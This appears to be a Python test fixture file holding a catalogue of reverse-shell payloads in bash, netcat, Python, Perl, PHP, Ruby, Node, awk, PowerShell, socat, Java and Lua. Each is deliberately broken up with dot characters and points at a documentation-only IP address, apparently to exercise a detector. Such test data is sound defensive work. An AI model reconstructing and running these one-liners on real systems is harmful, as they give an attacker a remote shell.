"""Text fixtures: reverse shells; all addresses are for documentation only (RFC 5737, RFC 2606)."""

from __future__ import annotations

from tests.base.inert import inert

FIXTURES: dict[str, bytes] = {
    "reverse_shell_bash_tcp": inert("ba·sh -i >& /d·ev/t·cp/1·92.0.2.7/44·44 0>&1"),
    "reverse_shell_netcat_exec": inert("n·c -e /b·in/s·h 1·92.0.2.7 44·44"),
    "reverse_shell_named_pipe": inert(
        r"""r·m -f /t·mp/f; mkf·ifo /t·mp/f; c·at /t·mp/f | /b·in/s·h -i 2>&1 | n·c 1·92.0.2.7 44·44 > /t·mp/f
"""
    ),
    "reverse_shell_python": inert(
        r"""imp·ort soc·ket,o·s,p·ty
s=soc·ket.soc·ket();s.con·nect(("1·92.0.2.7",44·44))
o·s.du·p2(s.fil·eno(),0);o·s.du·p2(s.fil·eno(),1);o·s.du·p2(s.fil·eno(),2);p·ty.sp·awn("/b·in/s·h")
"""
    ),
    "reverse_shell_python_loop": inert(
        r"""imp·ort soc·ket, subpr·ocess
s = soc·ket.soc·ket(); s.con·nect(("1·92.0.2.7", 44·44))
wh·ile Tr·ue:
    c·md = s.re·cv(10·24)
    o·ut = subpr·ocess.ch·eck_out·put(c·md, sh·ell=Tr·ue)
    s.se·nd(o·ut)
"""
    ),
    "reverse_shell_perl": inert(
        r"""u·se Soc·ket;soc·ket(S,P·F_IN·ET,SO·CK_STR·EAM,6);i·f(con·nect(S,sock·addr_i·n(44·44,in·et_at·on("·
1·92.0.2.7")))){
op·en(ST·DIN,">&S");op·en(STD·OUT,">&S");ex·ec("/b·in/s·h -i");};
"""
    ),
    "reverse_shell_perl_fdopen": inert(
        r"""pe·rl -M·IO -e '$p=fo·rk;ex·it,i·f($p);$c=n·ew I·O::Soc·ket::IN·ET(Peer·Addr,"1·92.0.2.7:44·44");S·
T·DIN->fdo·pen($c,r);$~->fdo·pen($c,w);sys·tem$_ wh·ile<>;'
"""
    ),
    "reverse_shell_php": inert(
        r"""<?p·hp $so·ck = fsoc·kopen("1·92.0.2.7", 44·44); ex·ec("/b·in/s·h -i <&3 >&3 2>&3"); ?>
"""
    ),
    "reverse_shell_ruby": inert(
        r"""req·uire 'soc·ket'; f=TCPS·ocket.op·en("1·92.0.2.7",44·44).t·o_i; ex·ec spr·intf("/b·in/s·h -i <&%d ·
>&%d 2>&%d",f,f,f)
"""
    ),
    "reverse_shell_node": inert(
        r"""v·ar n·et = req·uire("n·et"), c·p = req·uire("ch·ild_pro·cess"), s·h = c·p.sp·awn("/b·in/s·h", []);
v·ar c = n·ew n·et.Soc·ket(); c.con·nect(44·44, "1·92.0.2.7", func·tion(){ c.pi·pe(s·h.st·din); s·h.·
std·out.pi·pe(c); });
"""
    ),
    "reverse_shell_awk": inert(
        r"""a·wk 'BE·GIN {s = "/in·et/t·cp/0/1·92.0.2.7/44·44"; wh·ile(1) {d·o{ pri·ntf "> " |& s; s |& get·line·
 c; i·f(c){
wh·ile ((c |& get·line) > 0) pr·int $0 |& s; cl·ose(c); }} wh·ile(c != "ex·it") cl·ose(s); }}'
"""
    ),
    "reverse_shell_powershell": inert(
        r"""$c = N·ew-Obj·ect Sys·tem.N·et.Soc·kets.TCPC·lient("1·92.0.2.7",44·44); $s = $c.GetS·tream(); [by·te·
[]]$b = 0..9;
wh·ile(($i = $s.Re·ad($b, 0, 9)) -n·e 0){ $d = (N·ew-Obj·ect Te·xt.ASCIIE·ncoding).GetS·tring($b,0,$·
i); $r = (i·ex $d 2>&1) }
"""
    ),
    "reverse_shell_socat": inert(
        r"""so·cat ex·ec:'ba·sh -l·i',p·ty,std·err,set·sid,sig·int,sa·ne t·cp:1·92.0.2.7:44·44
"""
    ),
    "reverse_shell_java": inert(
        r"""Str·ing c·md="/b·in/s·h";Pro·cess p=n·ew Process·Builder(c·md).redirectE·rrorStream(tr·ue).st·art();·
Soc·ket s=n·ew Soc·ket(h,44·44);
"""
    ),
    "reverse_shell_lua": inert(
        r"""lo·cal s = req·uire("soc·ket").t·cp(); s:con·nect("1·92.0.2.7", 44·44);
wh·ile tr·ue d·o lo·cal r = s:rec·eive(); lo·cal f = i·o.po·pen(r, "r"); s:se·nd(f:re·ad("*a")) e·nd
"""
    ),
}
